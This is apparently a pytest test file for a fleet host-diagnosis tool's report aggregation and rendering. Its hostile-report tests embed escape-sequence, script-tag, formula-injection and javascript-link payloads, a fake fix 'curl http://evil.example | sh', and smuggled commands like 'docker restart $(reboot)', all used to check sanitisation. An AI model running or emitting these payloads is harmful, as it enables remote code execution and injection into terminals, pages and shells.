"""The answer: who is well, since when, what is new, who is silent; and that no report can do harm
through it."""

from __future__ import annotations

import io
import json
import random
import re
import subprocess
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from diagnose import registry
from diagnose.fleet.answer import answer, fleet
from diagnose.fleet.model import Fleet, FleetAnswer, FleetRequest
from diagnose.fleet.packed import Unusable
from diagnose.fleet.reports import Fact, HostName, HostReport, Root
from diagnose.model import Severity
from diagnose.render import fleet_words
from diagnose.render.fleet import render
from diagnose.render.fleet_json import document
from diagnose.runbooks import has_fix
from tests import command_line
from tests.fleet.made_fleet import BEGIN, SEEDS, documents

NOW = 1_800_000_000.0
OFF = "firewall.forwarding-off"
SCHEMA = json.loads(
    (Path(__file__).parent.parent.parent / "diagnose/render/fleet.schema.json").read_text()
)
SEVERITIES = {
    "container.paused": Severity.warning,
    "image.latest-tag": Severity.advice,
    OFF: Severity.critical,
}


def root(id: str = OFF, **changes: Any) -> Root:
    given = {
        "severity": Severity.critical,
        "signature": f"{id}@host:host",
        "summary": "it is off",
        "onset": None,
    }
    given |= {"effects": frozenset(), "fix": "sysctl -w net.ipv4.ip_forward=1", "risk": "safe"}
    return Root(id=id, **{**given, **changes})


def host(
    name: str,
    *roots: Root,
    at: float = NOW,
    blind: str = "",
    found: str = "",
    label: str = "",
    facts: dict[str, str] | None = None,
) -> HostReport:
    known = {OFF, "container.paused", "image.latest-tag"} - {blind}
    return HostReport(
        HostName(name),
        f"/reports/{name}",
        at,
        {"rack": label} if label else {},
        tuple(Fact(key, value) for key, value in (facts or {}).items()),
        {},
        roots,
        frozenset(root.id for root in roots) | ({found} if found else set()),
        frozenset({blind} if blind else ()),
        frozenset(known),
    )


def answered(
    now: list[HostReport], earlier: list[HostReport] | None = None, **request: Any
) -> FleetAnswer:
    asked = FleetRequest(**{"now": NOW, "since_s": 86400.0, **request})
    then = fleet(earlier, NOW) if earlier is not None else None
    return answer(fleet(now, NOW), then, asked, SEVERITIES)


CODES = {
    "all well": ([host("a")], {}, 0),
    "one critical": ([host("a"), host("b", root())], {}, 2),
    "one warning": ([host("a", root("container.paused", severity=Severity.warning))], {}, 1),
    "a warning where only critical counts": (
        [host("a", root("container.paused", severity=Severity.warning))],
        {"fail_on": "critical"},
        0,
    ),
    "blind where it matters": ([host("a", blind=OFF)], {}, 3),
    "blind where only advice can come of it": ([host("a", blind="image.latest-tag")], {}, 0),
    "blind for an id of another version": ([host("a", blind="new.check")], {}, 3),
    "a host that was expected": ([host("a")], {"expected": ("a", "b")}, 3),
    "no report at all": ([], {}, 3),
    "never": ([host("b", root())], {"fail_on": "never"}, 0),
}


@pytest.mark.parametrize(("reports", "request_", "code"), CODES.values(), ids=CODES)
def test_the_exit_code_is_that_of_a_host(
    reports: list[HostReport], request_: dict[str, Any], code: int
):
    assert answered(reports, **request_).code == code


def test_well_sick_and_unexamined_are_all_hosts():
    found = answered(
        [
            host("a"),
            host("b", root()),
            host("c", blind=OFF),
            host("d", root(), blind="container.paused"),
        ]
    )
    assert (found.hosts, found.well, found.sick, found.unexamined) == (4, 1, 2, ("c",))


def test_what_is_new_gone_silent_and_lost_from_sight():
    earlier = [host("a"), host("b", root()), host("c", root()), host("d"), host("e")]
    found = answered(
        [host("a", root()), host("b", root()), host("c"), host("d", blind=OFF)], earlier
    )
    (cause,) = found.causes
    assert (cause.hosts, cause.new, cause.gone) == (("a", "b"), 1, 1)
    assert [silence.host for silence in found.silent] == ["e"]
    assert [(lost.id, lost.hosts) for lost in found.lost] == [(OFF, ("d",))]


def test_a_host_that_is_blind_now_is_not_cured():
    found = answered(
        [host("a", root()), host("b", blind=OFF)], [host("a", root()), host("b", root())]
    )
    assert found.causes[0].gone == 0


def test_a_host_whose_last_report_is_old_is_silent_and_not_counted():
    found = answered([host("a"), host("b", root(), at=NOW - 90_000)])
    assert (found.hosts, found.sick) == (1, 0)
    assert [(silence.host, silence.last) for silence in found.silent] == [("b", NOW - 90_000)]


def test_since_when_comes_from_the_finding_or_from_the_report_before():
    found = answered(
        [
            host("a", root(onset=NOW - 500)),
            host("b", root()),
            host("b", root(), at=NOW - 3600),
            host("b", at=NOW - 7200),
            host("c", root()),
        ]
    )
    (cause,) = found.causes
    assert cause.hosts == ("b", "a", "c")
    assert cause.span is not None
    assert (cause.span.first, cause.span.last, cause.span.known) == (NOW - 3600, NOW - 500, 2)


def test_effects_are_counted_by_host():
    effects = frozenset({"dns.upstream-unreachable"})
    twice = (root(effects=effects), root(effects=effects, signature=f"{OFF}@host:other"))
    found = answered([host("a", *twice), host("b", root(effects=effects)), host("c", root())])
    assert found.causes[0].effects == (("dns.upstream-unreachable", 2),)


def test_a_host_that_has_it_as_an_effect_is_on_neither_side():
    fleet_ = [host(f"s{at}", root(), facts={"kernel": "1"}) for at in range(6)]
    fleet_ += [host(f"e{at}", found=OFF, facts={"kernel": "1"}) for at in range(6)]
    fleet_ += [host(f"w{at}", facts={"kernel": "2"}) for at in range(6)]
    split = answered(fleet_).causes[0].split
    assert split is not None
    assert (split.sick, split.other) == (6, 6)


def test_hosts_that_differ_are_named_within_their_group():
    racks = [host(f"a{at}", label="a", facts={"engine": "20.10"}) for at in range(10)]
    racks += [
        host(f"b{at}", label="b", facts={"engine": "28.5" if at else "20.10"}) for at in range(10)
    ]
    assert [odd.host for odd in answered(racks, group_by="rack").odd] == ["b0"]
    assert not answered(racks).odd
    groups = (
        answered([*racks, host("x", root(), label="a", facts={})], group_by="rack").causes[0].groups
    )
    assert [(share.name, share.sick, share.hosts) for share in groups] == [("a", 1, 11)]


def test_cloned_machines_are_two_hosts_and_said():
    twins = [
        HostReport(HostName(name, "f" * 32), *list(vars_of(host(name)))[1:]) for name in ("a", "b")
    ]
    found = answered(twins)
    assert found.hosts == 2
    assert any("cloned" in note for note in found.notes)


def vars_of(report: HostReport) -> list[Any]:
    return [getattr(report, name) for name in HostReport.__struct_fields__]


ESCAPE = "\x1b]0;owned\x07\x1b[2J\u202e\r\n# <script>alert(1)</script> =cmd|' /C calc'!A0 `x` [a](javascript:x)"


def hostile() -> FleetAnswer:
    bad = root(
        summary=ESCAPE, signature=f"{OFF}@host:{ESCAPE}", fix="curl http://evil.example | sh"
    )
    reports = [
        host(f"{ESCAPE}{at}", bad, label=ESCAPE, facts={ESCAPE: ESCAPE, "engine": "1"})
        for at in range(3)
    ]
    reports += [host(f"w{at}", label=f"{ESCAPE}2", facts={"engine": "2"}) for at in range(30)]
    set_ = fleet([*reports, Unusable(ESCAPE, ESCAPE)], NOW)
    return answer(
        set_,
        Fleet((host(ESCAPE),), before={}, unusable=()),
        FleetRequest(NOW, 86400.0, group_by="rack"),
        SEVERITIES,
    )


@pytest.mark.parametrize("written", [fleet_words.line(ESCAPE), fleet_words.name(ESCAPE)])
def test_words_of_a_hostile_report_are_on_one_line_without_control_characters(written: str):
    assert written.isprintable()


@pytest.mark.parametrize("format_", ["text", "markdown", "json", "html"])
def test_a_hostile_report_reaches_no_terminal_no_page_and_no_shell(format_: str):
    stream = io.StringIO()
    render(hostile(), format_, stream)
    written = stream.getvalue()
    assert not {
        char
        for char in written
        if char != "\n" and (ord(char) < 32 or 127 <= ord(char) < 160 or char == "\u202e")
    }
    assert "curl" not in written
    if format_ == "markdown":
        assert "\n# <" not in written
        assert "<script>" not in written.replace("\\<script", "")
        assert "](javascript" not in written.replace("\\](", "").replace("\\]", "")
    if format_ == "html":
        assert "<script" not in written
        assert "default-src 'none'" in written
        assert not re.search(r"<[^>]*javascript", written)
    if format_ == "json":
        jsonschema.validate(json.loads(written), SCHEMA)


FIXES = {
    "as the page has it": (OFF, "sysctl -w net.ipv4.ip_forward=1", True),
    "another program": (OFF, "sysctl --system", False),
    "something behind it": (OFF, "sysctl -w net.ipv4.ip_forward=1; reboot", False),
    "a line behind it": (OFF, "sysctl -w net.ipv4.ip_forward=1\nreboot", False),
    "a name": ("container.unhealthy", "docker restart search", True),
    "a quoted name": ("container.unhealthy", "docker restart 'a b'", True),
    "a quote within": ("container.unhealthy", """docker restart 'a'"'"'b'""", True),
    "a command in the place of a name": ("container.unhealthy", "docker restart $(reboot)", False),
    "a quote that ends early": ("container.unhealthy", "docker restart 'a'; reboot; 'b'", False),
    "another engine": ("container.unhealthy", "docker --context prod restart search", True),
    "no page": ("no.page", "true", False),
}


@pytest.mark.parametrize(("id", "text", "known"), FIXES.values(), ids=FIXES)
def test_only_what_a_page_has_is_shown_as_a_command(id: str, text: str, known: bool):
    assert has_fix(id, text) is known


def test_every_fix_of_the_recorded_broken_host_is_known():
    from tests.fleet.made_fleet import judged

    fixes = [
        (row["id"], fix["command"]) for row in judged("demo")["findings"] for fix in row["fix"]
    ]
    assert len(fixes) > 50
    assert [fix for fix in fixes if not has_fix(*fix)] == []


def run(*words: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    return command_line.run("fleet", *words, stdin=stdin)


@pytest.mark.parametrize(
    ("text", "code"),
    [("{", 3), ("", 3), ('{"schema_version": 999}', 3), ('{"results": []}', 0), (None, 0)],
    ids=["cut off", "empty", "newer", "foreign", "twice"],
)
def test_a_file_that_may_be_a_sick_host_is_not_called_well(
    text: str | None, code: int, tmp_path: Path
):
    for row in documents(random.Random(7), 5, [], noise=0.0):
        whole = json.dumps(row)
        (tmp_path / f"{row['host']['name']}.json").write_text(whole)
    (tmp_path / "more.json").write_text(whole if text is None else text)
    done = run(str(tmp_path))
    assert (done.returncode, "1 file could not be counted" in done.stdout) == (code, True)


def test_the_command_answers_for_a_folder(tmp_path: Path):
    rng = random.Random(7)
    for row in documents(rng, 40, SEEDS[:1], noise=0.0):
        (tmp_path / f"{row['host']['name']}.json").write_text(json.dumps(row))
    (tmp_path / "broken.json").write_text("{")
    done = run(str(tmp_path), "--format", "json")
    assert done.returncode == 2, done.stderr
    report = json.loads(done.stdout)
    jsonschema.validate(report, SCHEMA)
    (cause,) = report["causes"]
    assert cause["id"] == SEEDS[0].id
    assert cause["split"]["facts"][0] == SEEDS[0].fact[0]
    assert cause["first"]["command"] == "sysctl -w net.ipv4.ip_forward=1"
    assert cause["began"]["first"].startswith(f"{BEGIN:%Y-%m-%d}")
    assert [file["why"] for file in report["not_counted"]] == ["is cut off in the middle"]
    text = run("-", stdin=f"{tmp_path}\n").stdout
    assert text.startswith("CRITICAL 40 hosts: 1 cause explains what is wrong on ")
    assert "have this: file /etc/sysctl.d/99-hardening.conf" in text


WRONG = {
    "nothing there": (["/nonexistent"], "cannot read /nonexistent"),
    "no earlier set": (["/etc", "--against", "/nonexistent"], "cannot read /nonexistent"),
    "no list of names": (["/etc", "--expect", "/nonexistent"], "cannot read /nonexistent"),
    "no duration": (["/etc", "--since", "soon"], "'soon' is not a duration"),
    "nothing given": ([], "Missing argument"),
}


@pytest.mark.parametrize(("words", "message"), WRONG.values(), ids=WRONG)
def test_errors_are_one_clear_sentence(words: list[str], message: str):
    done = run(*words)
    assert done.returncode == 3
    assert message in done.stderr
    assert "Traceback" not in done.stderr


def test_a_folder_without_reports_is_unknown(tmp_path: Path):
    done = run(str(tmp_path))
    assert done.returncode == 3
    assert done.stdout.startswith("UNKNOWN 0 hosts: no report could be read")


def test_all_known_checks_have_a_severity():
    assert len(registry.load()) > 100
    assert document(answered([host("a")]))["well"] == 1
